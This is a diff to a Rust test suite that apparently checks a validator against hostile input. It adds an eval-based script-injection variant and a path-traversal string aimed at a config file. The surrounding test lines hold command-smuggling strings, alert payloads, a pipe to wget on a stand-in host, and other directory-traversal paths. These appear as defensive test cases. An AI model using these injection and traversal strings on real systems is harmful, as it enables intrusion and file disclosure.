@@ -384,6 +384,7 @@ fn what_looks_like_talk_is_judged() {
         "a & type `b c d e web.config",
         "\";//><import \nlocation=\"//x.test\";x=\"",
         "1;a=eval\na(`top.alert(1)`)",
+        "1;a=eval\na( `top.alert(1)`)",
         "1;a=setTimeout\na`top.alert(1)`",
         "(`reboot`, `x`)",
         "x|wget x.test/a| image:: y",
@@ -438,6 +439,7 @@ fn a_long_text_hides_no_way_out() {
         "../../a b/../../a b/../../a b/../../config/x.yml".to_owned(),
         format!("../../../../a b/config/x.yml\n{blanks}"),
         format!("../../../config/x.yml\n{text}"),
+        format!("x/../../a b c/d/../../a b/c/../../config/x.yml\n{blanks}"),
         format!(
             "{}\n/../../a b/../../a b/../../a b/../../config/x.yml",
             "a".repeat(250)
